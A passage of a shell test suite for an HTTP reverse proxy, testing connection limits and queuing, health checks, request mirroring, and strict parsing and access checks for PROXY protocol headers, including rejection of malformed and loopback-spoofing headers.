	some_z() { get "$front/[1-20]" >some; grep -q z some; }
	wait_for some_z || fail 'no key came back'
}

test_max_is_never_exceeded_and_nobody_is_lost() {
	helper count 5
	start_as -l 0 -o log --log-format '%s %{why}x' -w 2 -r ":$said,max=3"
	requests=${slow:+3000} requests=${requests:-300}
	for connection in close keep-alive; do
		is "$("$peer" load "$port" 30 "$requests" "GET / HTTP/1.1\\r\\nHost: h\\r\\nConnection: $connection\\r\\n\\r\\n")" \
			"200:$requests broken:0" "of $(sort log | uniq -c): the tally with $connection"
	done
	is "$(get "$url" | tr -d ' ')" 3 'the most connections at once'
}

test_who_waits_for_room_has_a_time_and_there_are_so_many() {
	need jq
	origin head wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nlate' again
	start_as -l 0 -A 0 -o log --log-format '%s %{why}x' -t connect=400ms -r ":$origin,max=1"
	admin=$(sed -n 2p "out.$n")
	get "$url" >late & held=$!
	wait_for test -f "got$m.1" || fail 'it gets nothing'
	answers 503 "$url"
	is "$(header Retry-After)" 1
	logged 1
	is "$(cat log)" '503 queue-late'
	helper hold "$port" 1024 'GET / HTTP/1.1\r\nHost: h\r\n\r\n'
	full() { answers 503 "$url" && grep -q queue-full log; }
	wait_for full || fail "$(sort log | uniq -c)"
	: >go
	wait $held
	is "$(cat late)" late
	wait_for lines_in 1026 log
	none_waits() { [ "$(metric proxy_requests_queued)" = 0 ]; }
	wait_for none_waits || fail 'some still wait'
	is "$(get "$url")" late 'afterwards'
}

test_who_waits_for_room_may_leave_and_is_in_flight_at_the_end() {
	origin head wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' again
	start_admin -t connect=60s -r ":$origin,max=1"
	queued_are() { [ "$(metric proxy_requests_queued)" = "$1" ]; }
	get "$url/first" >ok.1 & held=$!
	wait_for test -f "got$m.1" || fail 'it gets nothing'
	got=got$m.1
	helper hold "$port" 5 'GET /leaves HTTP/1.1\r\nHost: h\r\n\r\n'
	wait_for queued_are 5 || fail "$(metric proxy_requests_queued) wait"
	get "$url/stays" >ok.2 & waiting=$!
	wait_for queued_are 6 || fail "$(metric proxy_requests_queued) wait"
	kill -KILL "$helper"
	wait_for queued_are 1 || fail 'those who left still wait'
	kill -TERM "$pid"
	closed() { ! "$peer" talk "$port" 2>/dev/null; }
	wait_for closed || fail 'it still accepts'
	: >go
	wait $held
	wait $waiting
	is "$(cat ok.1 ok.2)" okok
	exits 0
	is "$(sed -n 's/^GET \([^ ]*\).*/\1/p' "$got" | tr '\n' ' ')" '/first /stays ' 'what the server was asked'
}

test_idle_connections_of_another_process_make_room() {
	start -r /=200:x
	inner=$port
	start -w 4 -r ":$inner,max=1" -t connect=2s
	for i in 1 2 3 4 5 6 7 8; do answers 200 "$url"; done
	began=$(now)
	is "$(load 1 40)" '200:40 broken:0'
	[ $(($(now) - began)) -le 3 ] || fail "40 requests took $(($(now) - began)) s"
}

test_requests_that_wait_for_room_are_served_in_their_order() {
	origin head wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' again
	start_as -l 0 -o log --log-format %U -r ":$origin,max=1"
	for i in 1 2 3 4; do
		get "$url/$i" >"ok.$i" & held="${held-} $!"
		"$peer" nap 60
	done
	: >go
	for p in $held; do wait "$p"; done
	is "$(cat ok.?)" okokokok
	wait_for lines_in 4 log
	is "$(tr -d '\n' <log)" /1/2/3/4
}

test_checks_bring_a_member_down_and_up_again_and_say_so() {
	need jq
	three
	free=$("$peer" port)
	start_as -q -l "$free" -r /=200:z
	checked=$pid
	start_admin -r ":$a" -r "http://127.0.0.1:$free,weight=2" --health /,interval=50ms,fall=2,rise=2
	may_say '^proxy: member .* is (up|down: (connect-failed|status 503))$'
	wait_for state_is 1 up
	kill -TERM "$checked" && wait "$checked"
	pids=$(echo "$pids" | sed "s/ $checked\>//")
	wait_for state_is 1 down
	is "$(get "$url/[1-9]")" aaaaaaaaa
	failures=$(status_of 1 failures)
	is "$(get "$url/[1-9]")" aaaaaaaaa
	is "$(status_of 1 failures)" "$failures" 'requests that it still got'
	front=$url proxy_err=err.$n
	start_as -q -l "$free" -r /=503
	"$peer" nap 200
	is "$(status_of 1 state)" down 'one that answers 503'
	stop
	start_as -q -l "$free" -r /=200:z
	wait_for state_is 1 up
	some_z() { get "$front/[1-20]" >some; grep -q z some; }
	wait_for some_z || fail 'it gets nothing again'
	is "$(grep -c 'is down: connect-failed$' "$proxy_err")" 1 'how often it said that it is down'
	is "$(grep -c 'is up$' "$proxy_err")" 1 'how often it said that it is up'
}

test_a_check_asks_for_its_path_as_the_target_says_and_judges_the_status() {
	need jq
	echo me:secret >login
	start_as -l 0 -o seen --log-format '%r|%{Host}i|%{User-Agent}i|%{Authorization}i|%s' --show-secrets -r /=200:x -r /check=418
	inner=$port
	may_say '^proxy: member .* is down: (connect-failed|status 418)$'
	start_admin -r "http://127.0.0.1:$inner,host=app.example,auth=@login" --health /check,interval=50ms,fall=1,rise=1,status=418
	wait_for lines_in 3 seen
	is "$(sort -u seen)" 'GET /check HTTP/1.1|app.example|proxy-health|Basic bWU6c2VjcmV0|418'
	is "$(status_of 0 state)" up
	start_admin -r ":$inner" --health /check,interval=50ms,fall=1,rise=1
	wait_for state_is 0 down
	answers 503 "$url"
	start_admin -r ":$inner" --health tcp,interval=50ms,fall=1
	good() { [ "$(get "$admin/metrics" | sed -n 's/^proxy_member_checks_good_total.* //p')" -ge 3 ]; }
	wait_for good || fail 'connecting is not enough'
	is "$(status_of 0 state)" up
}

test_checks_in_a_row_decide() {
	start -r /falls=503 -r /falls=503 -r /falls=200 -r /rises=200 -r /rises=200 -r /rises=503
	inner=$port
	checks() { get "$admin/metrics" | awk '/^proxy_member_checks_/ { n += $2 } END { print n }'; }
	twelve() { [ "$(checks)" -ge 12 ]; }
	start_admin -r "http://127.0.0.1:$inner" --health /falls,interval=20ms,fall=3,rise=1
	wait_for twelve || fail "$(checks) checks"
	is "$(cat "err.$n")" '' 'what is said of two bad ones in a row'
	stop
	may_say '^proxy: member .* is (up|down: status 503)$'
	start_admin -r "http://127.0.0.1:$inner" --health /falls,interval=20ms,fall=2,rise=1
	wait_for twelve || fail "$(checks) checks"
	is "$(sed 's/.* is //' "err.$n" | sort -u | tr '\n' ,)" 'down: status 503,up,'
	stop
	start_admin -r "http://127.0.0.1:$inner" --health /rises,interval=20ms,fall=1,rise=3
	wait_for twelve || fail "$(checks) checks"
	is "$(cat "err.$n")" "proxy: member http://127.0.0.1:$inner is down: status 503"
	answers 503 "$url"
}

test_a_check_is_a_connection_of_its_own_and_has_a_time() {
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' again
	start_logged --log-format '%>s %{why}x' -r ":$origin,proxy" --health /x?y,interval=50ms
	wait_for test -f "got$m.3" || fail 'it is not checked again'
	is "$(head -c 16 "got$m.1" | od -An -tx1 | tr -d ' \n')" 0d0a0d0a000d0a515549540a20000000 'the PROXY header of a check'
	tail -c +17 "got$m.1" | tr -d '\r' >asked
	is "$(head -n 1 asked)" 'GET /x?y HTTP/1.1'
	for line in "Host: 127.0.0.1:$origin" 'User-Agent: proxy-health' 'Connection: close'; do grep -qix "$line" asked || fail "no $line in $(cat asked)"; done
	hasnt "$(cat asked)" Forwarded
	[ ! -s log ] || fail "checks are logged: $(cat log)"
	stop
	may_say '^proxy: member .* is down: (response|connect)-late$'
	origin head hang
	start_logged --log-format '%>s %{why}x' -r ":$origin" --health /,interval=100ms,fall=2
	wait_for grep -q 'is down: response-late' "err.$n" || fail 'a server that hangs is not down'
	answers 503 "$url"
	logged
	is "$(cat log)" '503 no-member'
	stop
	[ "$(uname)" = Linux ] || exit 0
	helper full
	start -r ":$said" --health tcp,interval=100ms,fall=2
	wait_for grep -q 'is down: connect-late' "err.$n" || fail 'a server that cannot be reached is not down'
}

test_a_member_that_was_down_gets_its_share_slowly() {
	need jq
	three
	start -r /=200:z
	victim=$pid free=$port
	may_say '^proxy: member .* is (up|down)'
	start_admin -w 2 -r ":$a" -r ":$free" --health tcp,interval=50ms,fall=1,rise=1
	kill -TERM "$victim" && wait "$victim"
	pids=$(echo "$pids" | sed "s/ $victim\>//")
	wait_for state_is 1 down
	front=$url
	start_as -q -l "$free" -r /=200:z
	wait_for state_is 1 up
	get "$front/[1-200]" >answers
	[ "$(share z)" -ge 1 ] && [ "$(share z)" -le 60 ] || fail "it has $(share z) of 200"
	[ -n "$slow" ] || exit 0
	"$peer" nap 10000
	get "$front/[1-200]" >answers
	is "$(share z)" 100 'its share after ten seconds'
}

test_a_good_check_brings_back_what_a_request_set_aside() {
	need jq
	free=$("$peer" port)
	start_admin -r ":$free" --health tcp,interval=200ms,fall=1000
	answers 502 "$url"
	wait_for state_is 0 aside
	start_as -q -l "$free" -r /=200:x
	wait_for state_is 0 up
	is "$(status_of 0 requests)" 1 'requests it took'
}

test_one_worker_checks_for_all() {
	need_proc
	start_as -l 0 -o seen -r /=200:x
	inner=$port
	may_say '^proxy: member .* is down: connect-failed$' '^proxy: worker [0-9]*: ended by signal 9; another is started$'
	start_admin -w 4 -r ":$inner" --health /,interval=50ms
	done_so_far() { get "$admin/metrics" | sed -n 's/^proxy_member_checks_good_total.* //p'; }
	at_least() { [ "$(done_so_far)" -ge "$1" ]; }
	wait_for at_least 10
	before=$(done_so_far) lines=$(wc -l <seen) after=$(done_so_far)
	[ "$lines" -ge "$before" ] && [ "$lines" -le $((after + 2)) ] || fail "$lines checks came, $before to $after were counted"
	for worker in $(tree "$pid" | sed 1d); do kill -KILL "$worker"; done
	replaced() { [ "$(grep -c 'another is started' "err.$n")" = 4 ]; }
	wait_for replaced || fail "$(cat "err.$n")"
	wait_for at_least $(($(done_so_far) + 5)) || fail 'nobody checks any more'
}

test_where_all_are_down_requests_wait_if_they_may() {
	need jq
	free=$("$peer" port)
	start_admin -t wait=9s -r ":$free" --health tcp,interval=50ms,fall=1,rise=1
	may_say '^proxy: member .* is (up|down)'
	wait_for state_is 0 down
	get "$url" >waited & client=$!
	"$peer" nap 100
	start_as -q -l "$free" -r /=200:back
	wait $client
	is "$(cat waited)" back
}

test_where_all_are_down_or_full_what_is_stored_is_served_stale() {
	need jq
	start -r /=200:old -R 'Cache-Control: max-age=0' -R 'ETag: "1"'
	inner=$port checked=$pid
	start_admin -C cache -r ":$inner" --health tcp,interval=50ms,fall=1
	may_say '^proxy: member .* is down'
	is "$(get "$url")" old
	kill -TERM "$checked" && wait "$checked"
	pids=$(echo "$pids" | sed "s/ $checked\>//")
	wait_for state_is 0 down
	is "$(get "$url")" old 'what is stored'
	answers 503 "$url/other"
}

test_a_single_request_of_all_workers_tries_a_member_that_was_set_aside() {
	need jq
	three
	origin head reset -- head reset -- head wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nz'
	start_admin -w 2 -r ":$a" -r ":$origin"
	for i in 1 2; do is "$(get "$url")" a; done
	wait_for test -f "got$m.1" || fail 'it was not asked'
	wait_for state_is 1 trial
	is "$(load 20 60)" '200:60 broken:0'
	is "$(find . -name "got$m.*" | wc -l | tr -d ' ')" 2 'how often it was asked'
	is "$(status_of 1 state)" aside
	wait_for state_is 1 trial
	tried() { [ -f "got$m.3" ]; }
	get "$url/[1-6]" >some & client=$!
	wait_for tried || fail 'it is not tried again'
	is "$(load 20 60)" '200:60 broken:0'
	is "$(find . -name "got$m.*" | wc -l | tr -d ' ')" 3 'how often it was asked while one tries it'
	: >go
	wait $client
	has "$(cat some)" z
	wait_for state_is 1 up
}

test_a_trial_whose_client_leaves_is_given_back() {
	need jq
	three
	origin head reset -- head wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nz' -- head 'send:HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nz' again
	start_admin -r ":$origin" -r ":$a"
	is "$(get "$url")" a
	wait_for state_is 0 trial
	"$peer" alarm 1 curl -q -s "$url/[1-2]" >some  # one of them is the trial; it is not answered in time
	wait_for state_is 0 trial
	some_z() { get "$url" >some; grep -q z some; }
	wait_for some_z || fail 'nobody tries it again'
	is "$(status_of 0 state)" up
	is "$(several 4 | fold -w 1 | sort | tr -d '\n')" aazz
}

test_many_that_fail_at_once_are_one_failure() {
	need jq
	three
	origin head wait:go reset
	start_admin -b rr,retries=2 -r ":$a" -r ":$origin"
	"$peer" load "$port" 20 20 'GET / HTTP/1.1\r\nHost: h\r\n\r\n' >tally & client=$!
	ten() { [ "$(status_of 1 in_flight)" -ge 8 ]; }
	wait_for ten || fail "$(status_of 1 in_flight) wait"
	: >go
	wait $client
	is "$(cat tally)" '200:20 broken:0'
	wait_for state_is 1 trial  # after a second, not after a minute
}

# ---- --mirror ----

test_a_mirror_gets_a_copy_of_each_request() {
	start_as -l 0 -o copies --log-format '%r|%{Host}i|%{X-Forwarded-For}i|%I' -r /=echo
	inner=$port
	start -r /=200:real
	real=$port
	start_admin --mirror ":$inner/m" -r ":$real" -r /own=200:own
	is "$(get "$url/a?b")" real
	is "$(get -d hello "$url/c")" real
	is "$(head -c 200000 /dev/zero | tr '\0' x | get -T - "$url/d")" real 'a long one'
	is "$(get -d @- -H 'Transfer-Encoding: chunked' "$url/e" <<-END
	hello
	END
	)" real
	is "$(get "$url/own")" own
	answers 400 "$url/%zz"
	wait_for lines_in 5 copies || fail "$(cat copies)"
	is "$(sed 's/|[0-9]*$//' copies | sort | tr '\n' ' ')" "$(for r in 'GET /m/a?b' 'GET /m/own' 'POST /m/c' 'POST /m/e' 'PUT /m/d'; do printf '%s HTTP/1.1|127.0.0.1:%s|127.0.0.1 ' "$r" "$port"; done)"
	[ "$(sed -n 's/^PUT.*|//p' copies)" -ge 200000 ] || fail 'the content is not copied'
	head -c 3000000 /dev/zero >large
	is "$(get -H Expect: --data-binary @large "$url/f")" real
	wait_for test "$(metric 'proxy_mirrored_total{result="dropped"}')" = 1
	is "$(metric 'proxy_mirrored_total{result="sent"}')" 5
}

test_a_mirror_that_is_dead_or_hangs_changes_nothing() {
	dead=1
	origin head hang
	start -r /=200:real
	real=$port
	for mirror in "$dead" "$origin"; do
		start -w 2 --mirror ":$mirror" -r ":$real" -t response=1s
		is "$(load 10 400)" '200:400 broken:0'
		is "$(get -d hello "$url")" real
		stop
	done
	is "$(sed '/^$/d' "err.$n")" ''
}

test_a_mirror_has_64_copies_at_most_and_is_never_waited_for() {
	origin hang
	start_admin --mirror ":$origin" -r /=200:real
	get "$url/[1-100]" >answers
	is "$(cat answers | wc -c | tr -d ' ')" 400
	is "$(metric 'proxy_mirrored_total{result="dropped"}')" 36
	stop
	start -r /=echo
	start_admin --mirror ":$origin" -r ":$port" -t idle=9s
	head -c 900000 /dev/zero | tr '\0' a >large
	for i in 1 2 3; do
		is "$(get -m 3 -o body -w '%{http_code}' --data-binary @large "$url")" 200 'status with a mirror that does not read'
		is "$(member content | wc -c | tr -d ' ')" 900001
	done
	dead=1
	start_admin --mirror ":$dead" -r /=200:real
	get "$url/[1-5]" >answers
	told() { get "$admin/metrics" | sed -n 's/^proxy_mirrored_total{result="\(.*\)"} /\1 /p' | awk '$1 != "sent" { n += $2; f = $1 == "failed" ? $2 : f } END { exit !(n == 5 && f > 0) }'; }
	wait_for told || fail "$(get "$admin/metrics" | grep mirrored)"
}

test_what_is_mirrored_is_a_request_that_was_allowed() {
	start_as -l 0 -o copies --log-format '%r|%{Host}i|%{Via}i|%{Authorization}i' --show-secrets -r /=200
	inner=$port
	start -r /=200:stored -R 'Cache-Control: max-age=60'
	stored=$port
	echo me:secret >login
	may_say '^proxy: member .* is down: connect-failed$'  # at the end
	start --mirror "http://127.0.0.1:$inner,host=twin.example,auth=@login" -f -C cache -d /denied -r ":$stored" --health /health,interval=50ms
	for i in 1 2 3; do is "$(get "$url/hit")" stored; done
	answers 403 "$url/denied"
	is "$(get -p -x "$url" "http://127.0.0.1:$stored/tunnel")" stored
	is "$(get --socks5 "127.0.0.1:$port" "http://127.0.0.1:$stored/socks")" stored
	code -H 'Connection: Upgrade' -H 'Upgrade: websocket' "$url/upgrade" >status
	is "$(get "$url/last")" stored
	wait_for grep -q /last copies || fail "no copy: $(cat copies)"
	"$peer" nap 100
	is "$(sed 's/ proxy ([0-9a-f]*)/ proxy/' copies | sort | uniq -c | tr -s ' ' | tr '\n' ',')" ' 3 GET /hit HTTP/1.1|twin.example|1.1 proxy|Basic bWU6c2VjcmV0, 1 GET /last HTTP/1.1|twin.example|1.1 proxy|Basic bWU6c2VjcmV0,'
}

test_forward_requests_are_mirrored_without_the_client_s_address() {
	start_as -l 0 -o copies --log-format '%r|%{Host}i|%{X-Forwarded-For}i' -r /=200
	inner=$port
	start -r /=200:real
	real=$port
	start --mirror ":$inner"
	is "$(get -x "$url" "http://127.0.0.1:$real/x")" real
	is "$(get -p -x "$url" "http://127.0.0.1:$real/hidden")" real
	wait_for lines_in 1 copies
	is "$(cat copies)" "GET /x HTTP/1.1|127.0.0.1:$real|-"
}

# ---- the PROXY protocol: -l ...,proxy and -r ...,proxy ----

ask='GET /x HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n'
v2='\r\n\r\n\0\r\nQUIT\n'
of_seven='PROXY TCP4 192.0.2.7 192.0.2.1 4711 80\r\n'
of_seven_v2="$v2\\x21\\x11\\x00\\x0c\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50"
proxied() {  # HEADER [REQUEST]: the status of a request after this header; the answer is in the file got
	talk "$port" "send:$1${2-$ask}" rest >got 2>/dev/null
	sed -n '1s/^HTTP\/1\.1 \([0-9]*\).*/\1/p' got
}
client_of() {  # HEADER: the client that echo tells after this header
	proxied "$1" >status
	tail -n 1 got >body
	is "$(cat status)" 200 "status after $1"
	member client
}

test_a_proxy_header_names_the_client() {
	start -r /=echo
	inner=$port
	start_as -l 0,proxy -o log --log-format '%a %{c}a %h' -r ":$inner"
	like "$url" '^http://127\.0\.0\.1:[0-9]+$'
	for header in "$of_seven" "$of_seven_v2"; do
		is "$(proxied "$header")" 200
		tail -n 1 got >body
		is "$(field X-Forwarded-For)" 192.0.2.7
		like "$(field Forwarded)" 'for="?192\.0\.2\.7"?(;|$)'
	done
	logged 2
	is "$(sort -u log)" '192.0.2.7 127.0.0.1 192.0.2.7'
	start_as -q -l 0,proxy -r /=echo
	is "$(code --haproxy-protocol "$url/by-curl")" 200
	is "$(member target) $(member client)" '/by-curl 127.0.0.1'
	talk "$port" "send:${of_seven}GET /1 HTTP/1.1\r\nHost: h\r\n\r\nGET /2 HTTP/1.1\r\nHost: h\r\n\r\n" 'read:/1' 'read:192.0.2.7' 'read:/2' read:192.0.2.7 >got ||
		fail 'the client of a second request is another'
}

test_proxy_headers_of_every_form_are_understood() {
	have_ipv6
	start_as -q -l 0,proxy -r /=echo
	own=127.0.0.1
	six='\x20\x01\x0d\xb8\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x07'
	while read -r want header; do
		(is "$(client_of "$header")" "$want" "the client after $header") || bad=1
	done <<-END
	192.0.2.7 PROXY TCP4 192.0.2.7 192.0.2.1 4711 80\\r\\n
	192.0.2.7 PROXY TCP4 192.0.2.7 192.0.2.1 65535 65535\\r\\n
	255.255.255.255 PROXY TCP4 255.255.255.255 255.255.255.255 65535 65535\\r\\n
	2001:db8::7 PROXY TCP6 2001:db8::7 2001:db8::1 4711 80\\r\\n
	2001:db8::7 PROXY TCP6 2001:0db8:0000:0000:0000:0000:0000:0007 2001:db8:0:0:0:0:0:1 4711 80\\r\\n
	$own PROXY UNKNOWN\\r\\n
	$own PROXY UNKNOWN 192.0.2.7 192.0.2.1 4711 80\\r\\n
	$own PROXY UNKNOWN ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff 65535 65535\\r\\n
	192.0.2.7 $of_seven_v2
	2001:db8::7 $v2\\x21\\x21\\x00\\x24$six$six\\x12\\x67\\x00\\x50
	192.0.2.7 $v2\\x21\\x11\\x00\\x17\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50\\x04\\x00\\x00\\xea\\x00\\x05hello
	2001:db8::7 $v2\\x21\\x21\\x00\\x2b$six$six\\x12\\x67\\x00\\x50\\x01\\x00\\x04http
	192.0.2.7 $v2\\x21\\x11\\x08\\x0c\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50\\x04\\x07\\xfd$(zeros 2045)
	$own $v2\\x20\\x00\\x00\\x00
	$own $v2\\x20\\x11\\x00\\x0c\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50
	$own $v2\\x20\\x00\\x00\\x08\\x04\\x00\\x05hello
	$own $v2\\x21\\x00\\x00\\x00
	$own $v2\\x21\\x00\\x00\\x05hello
	$own $v2\\x21\\x31\\x00\\xd8/a/socket$(zeros 98)/another$(zeros 100)
	$own $v2\\x21\\x12\\x00\\x0c\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50
	$own $v2\\x21\\x22\\x00\\x24$six$six\\x12\\x67\\x00\\x50
	END
	[ -z "${bad-}" ] || exit 1
}

test_without_a_well_formed_proxy_header_there_is_400() {
	start_as -l 0,proxy -o log --log-format '%>s %{why}x' -t head=2 -r /=200
	count=0
	while read -r header; do
		count=$((count + 1))
		(is "$(proxied "$header")" 400 "status after $header") || bad=1
		wait_for lines_in $count log || fail "not logged: $header"
		(is "$(tail -n 1 log)" '400 proxy-header' "the log after $header") || bad=1
	done <<-END

	\\r\\n
	proxy TCP4 192.0.2.7 192.0.2.1 4711 80\\r\\n
	PROXYTCP4 192.0.2.7 192.0.2.1 4711 80\\r\\n
	PROXY  TCP4 192.0.2.7 192.0.2.1 4711 80\\r\\n
	PROXY\\tTCP4 192.0.2.7 192.0.2.1 4711 80\\r\\n
	PROXY TCP4  192.0.2.7 192.0.2.1 4711 80\\r\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 4711\\r\\n
	PROXY TCP4 192.0.2.7 4711 80\\r\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 4711 80 90\\r\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 4711 80 \\r\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 65536 80\\r\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 4711 99999999999999999999\\r\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 -1 80\\r\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 +1 80\\r\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 0x50 80\\r\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 04711 80\\r\\n
	PROXY TCP4 192.0.2.07 192.0.2.1 4711 80\\r\\n
	PROXY TCP4 192.0.2.256 192.0.2.1 4711 80\\r\\n
	PROXY TCP4 192.0.2 192.0.2.1 4711 80\\r\\n
	PROXY TCP4 192.0.2.7x 192.0.2.1 4711 80\\r\\n
	PROXY TCP4 a.example b.example 4711 80\\r\\n
	PROXY TCP4 2001:db8::7 2001:db8::1 4711 80\\r\\n
	PROXY TCP6 192.0.2.7 192.0.2.1 4711 80\\r\\n
	PROXY TCP6 [2001:db8::7] [2001:db8::1] 4711 80\\r\\n
	PROXY TCP6 2001:db8::7%lo 2001:db8::1 4711 80\\r\\n
	PROXY TCP5 192.0.2.7 192.0.2.1 4711 80\\r\\n
	PROXY UDP4 192.0.2.7 192.0.2.1 4711 80\\r\\n
	PROXY TCP4\\r\\n
	PROXY \\r\\n
	PROXY\\r\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 4711 80\\n
	PROXY TCP4 192.0.2.7 192.0.2.1 4711 80\\r
	PROXY TCP4 192.0.2.7\\x00 192.0.2.1 4711 80\\r\\n
	PROXY UNKNOWN $(head -c 100 /dev/zero | tr '\0' x)\\r\\n
	PROXY UNKNOWN\\x00\\n
	PROXY UNKNOWNX\\r\\n
	\\r\\n$of_seven
	\\r\\n\\r\\n\\x00\\r\\nQUIT\\r\\x21\\x11\\x00\\x0c\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50
	\\r\\n\\r\\n\\x00\\r\\nQUIR\\n\\x21\\x11\\x00\\x0c\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50
	$v2\\x11\\x11\\x00\\x0c\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50
	$v2\\x31\\x11\\x00\\x0c\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50
	$v2\\x22\\x11\\x00\\x0c\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50
	$v2\\x21\\x11\\x00\\x0b\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00
	$v2\\x21\\x11\\x00\\x00
	$v2\\x21\\x21\\x00\\x0c\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50
	END
	[ -z "${bad-}" ] || exit 1
	is "$(proxied "$of_seven$of_seven")" 400 'status after a second header'
	wait_for lines_in $((count + 1)) log
	hasnt "$(tail -n 1 log)" 200
	start -r /=200
	is "$(proxied "$of_seven")" 400 'status where no header is expected'
	is "$(proxied "$of_seven_v2")" 400 'status where no header is expected'
}

test_proxy_headers_in_split_octets_are_understood() {
	start_as -q -l 0,proxy -r /=echo
	for header in "$of_seven" "$of_seven_v2" "${of_seven_v2%\\x00\\x0c*}\\x00\\x0f\\xc0\\x00\\x02\\x07\\xc0\\x00\\x02\\x01\\x12\\x67\\x00\\x50\\x04\\x00\\x00"; do
		talk "$port" "drip:3:$header$ask" rest >got
		tail -n 1 got >body
		is "$(member client)" 192.0.2.7
		talk "$port" "send:$header" nap:20 "send:$ask" rest >got
		tail -n 1 got >body
		is "$(member client)" 192.0.2.7
	done
	talk "$port" 'send:PROXY UNKNOWN\r' nap:20 'send:\n' nap:20 "send:$ask" rest >got
	has "$(cat got)" '"client":"127.0.0.1"'
}

test_a_proxy_header_that_is_late_is_408() {
	start_as -l 0,proxy -o log --log-format '%>s %{why}x' -t head=500ms,keepalive=1 -r /=200
	for part in 'PROXY TCP4 192' "$v2" "$v2\\x21\\x11\\xff\\xff\\xc0\\x00" P '\r' 'PROXY UNKNOWN\r'; do
		like "$(talk "$port" "send:$part" rest)" '^HTTP/1\.1 408 '
	done
	logged 6
	is "$(sort -u log)" '408 head-late'
	talk "$port" "drip:100:PROXY TCP4 192.0.2.7 192.0.2.1" rest >got 2>/dev/null
	talk "$port" rest >got || fail 'a connection that says nothing stays'
	for part in PROXY "$v2\\x21\\x11\\x00\\x0c\\xc0"; do
		talk "$port" "send:$part" shut rest >got || fail 'a header that is cut off is waited for'
		talk "$port" "send:$part" reset
	done
	is "$(proxied "$of_seven")" 200
}

test_the_client_of_a_proxy_header_is_judged_and_counted() {
	start_as -q -l 0,proxy -r /=200 -d from:192.0.2.66 -d from:2001:db8:66::/48 -a not:from:127.0.0.0/8
	is "$(proxied "$of_seven")" 200
	is "$(proxied 'PROXY TCP4 192.0.2.66 192.0.2.1 4711 80\r\n')" 403
	is "$(proxied 'PROXY TCP6 2001:db8:66::1 2001:db8::1 4711 80\r\n')" 403
	is "$(proxied 'PROXY TCP6 ::ffff:192.0.2.66 2001:db8::1 4711 80\r\n')" 403 'status for an IPv4 address written as IPv6'
	is "$(proxied 'PROXY UNKNOWN\r\n')" 403
	start_as -q -l 0,proxy -r /=200 --max per-client=2
	helper hold "$port" 2 "$of_seven"
	more() { [ "$(proxied "$of_seven")" != 200 ]; }
	wait_for more || fail 'the connections of a client are not counted'
	like "$(proxied "$of_seven")" '^(429|503|)$' 'status of a third connection'
	is "$(proxied 'PROXY TCP4 192.0.2.8 192.0.2.1 4711 80\r\n')" 200 'status of another client'
	start_as -q -l 0,proxy -r /=200:x --trust 192.0.2.0/24 -d from:198.51.100.9
	is "$(proxied "$of_seven" 'GET / HTTP/1.1\r\nHost: h\r\nX-Forwarded-For: 198.51.100.9\r\nConnection: close\r\n\r\n')" 403 'what a trusted peer behind the header says'
	is "$(proxied 'PROXY TCP4 203.0.113.1 192.0.2.1 4711 80\r\n' 'GET / HTTP/1.1\r\nHost: h\r\nX-Forwarded-For: 198.51.100.9\r\nConnection: close\r\n\r\n')" 200 'what another says'
}

test_a_client_of_a_proxy_header_is_never_this_machine() {
	start -r /=200
	inner=$port
	start_as -l 0,proxy -o log --log-format '%>s %{why}x' -f
	get_inner="GET http://127.0.0.1:$inner/ HTTP/1.1\r\nHost: 127.0.0.1:$inner\r\nConnection: close\r\n\r\n"
	connect_inner="CONNECT localhost:$inner HTTP/1.1\r\nHost: localhost:$inner\r\n\r\n"
	for request in "$get_inner" "$connect_inner"; do
		for header in "$of_seven" 'PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n' 'PROXY TCP6 ::1 ::1 1 2\r\n' 'PROXY TCP6 ::ffff:127.0.0.1 ::1 1 2\r\n' \
			"$v2\\x21\\x11\\x00\\x0c\\x7f\\x00\\x00\\x01\\x7f\\x00\\x00\\x01\\x12\\x67\\x00\\x50"; do
			is "$(proxied "$header" "$request")" 403 "status after $header"
		done
	done
	logged 10
	is "$(cut -d' ' -f1 log | sort -u)" 403
	like "$(sort -u log | tr '\n' ' ')" '^(403 (guarded|rebinding) )+$'
	is "$(proxied 'PROXY UNKNOWN\r\n' "$get_inner")" 200 'status for the peer itself'
